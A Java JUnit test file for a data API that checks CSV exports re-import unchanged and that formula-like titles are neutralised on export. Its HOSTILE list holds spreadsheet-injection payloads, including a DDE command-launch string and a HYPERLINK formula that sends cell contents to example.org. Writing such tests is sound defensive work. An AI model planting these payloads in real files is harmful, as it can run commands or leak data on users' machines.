package org.tamga.api.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.TestProfile;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.tamga.api.Api;
import org.tamga.api.ApiTest;
import org.tamga.api.OwnStore;
import org.tamga.api.Upload;
import org.tamga.api.kind.Kind;
import org.tamga.api.kind.Kinds;

/** An exported file can be imported again without change. */
@ApiTest
@TestProfile(OwnStore.class)
class ExportImportTest {

    /** Each is in the store as it stands here; a spreadsheet must not take it for a formula. */
    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"https://example.org?\"&A1)",
            "+1+cmd|' /C calc'!A0",
            "-1",
            "@SUM(1)",
            "'=1",
            "''=1",
            "'quoted'",
            "\uFF1D1",
            "a \"quoted\", and; separated one");

    @Test
    void everyTableOfEveryDatasetIsImportedAgainWithoutAChange() throws IOException {
        var exported = new TreeSet<String>();
        for (var dataset : Api.get("/v1/datasets").<String>getList("items.name")) {
            assertUnchanged(files(dataset, exported));
        }
        assertEquals(Kinds.exported().map(Kind::name).collect(Collectors.toCollection(TreeSet::new)), exported);
    }

    @Test
    void aTextThatLooksLikeAFormulaIsHarmlessInTheFileAndWholeInTheStore() throws IOException {
        var rows = new StringBuilder("id,type,authority,title,redistribution\nhostile-s,report,primary,S,allowed\n");
        for (var i = 0; i < HOSTILE.size(); i++) {
            var typed = HOSTILE.get(i).startsWith("'=") || HOSTILE.get(i).startsWith("''=")
                    ? "'" + HOSTILE.get(i)
                    : HOSTILE.get(i);
            rows.append("hostile-%d,report,primary,\"%s\",allowed\n".formatted(i, typed.replace("\"", "\"\"")));
        }
        var upload = Upload.index("hostile", "KGZ", "1").with("sources.csv", rows.toString());
        assertEquals(201, upload.post("").statusCode());
        for (var i = 0; i < HOSTILE.size(); i++) {
            assertEquals(HOSTILE.get(i), Api.get("/v1/sources/hostile-" + i).getString("title"));
        }
        var file = Api.text("/v1/exports/sources.csv?dataset=hostile");
        for (var row : ExportTest.csv(file)) {
            row.forEach(cell -> assertTrue(!cell.matches("[=+@\\t\\r\\uFF1D-].*"), cell));
        }
        assertTrue(file.contains("hostile-4,report,primary,''=1,"), file);
        assertTrue(file.contains("hostile-6,report,primary,'quoted',"), file);
        assertUnchanged(files("hostile", new TreeSet<>()));
    }

    private static void assertUnchanged(Map<String, byte[]> files) throws IOException {
        var answer = Upload.post(zip(files), "");
        assertEquals(200, answer.statusCode(), answer.asString());
        assertEquals("unchanged", answer.jsonPath().getString("state"));
    }

    /** The files of a dataset: those that can be exported as they are exported, the rest from the archive. */
    private static Map<String, byte[]> files(String dataset, Set<String> exported) throws IOException {
        var release = Api.get("/v1/status").getString("release");
        var archive =
                Api.request().get("/v1/releases/" + release + "/archive.zip").asByteArray();
        var files = new TreeMap<String, byte[]>();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(archive))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().startsWith(dataset + "/")) {
                    files.put(entry.getName().substring(dataset.length() + 1), zip.readAllBytes());
                }
            }
        }
        for (var kind : Kinds.exported().toList()) {
            var table = kind.name();
            var path = "/v1/exports/" + table + ".csv?dataset=" + dataset + "&" + kind.everyRow();
            if (files.containsKey(table + ".csv")) {
                exported.add(table);
                files.put(table + ".csv", Api.text(path).getBytes(StandardCharsets.UTF_8));
            } else {
                assertEquals(1, ExportTest.csv(Api.text(path)).size());
            }
        }
        return files;
    }

    private static byte[] zip(Map<String, byte[]> files) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var file : files.entrySet()) {
                zip.putNextEntry(new ZipEntry(file.getKey()));
                zip.write(file.getValue());
            }
        }
        return bytes.toByteArray();
    }
}
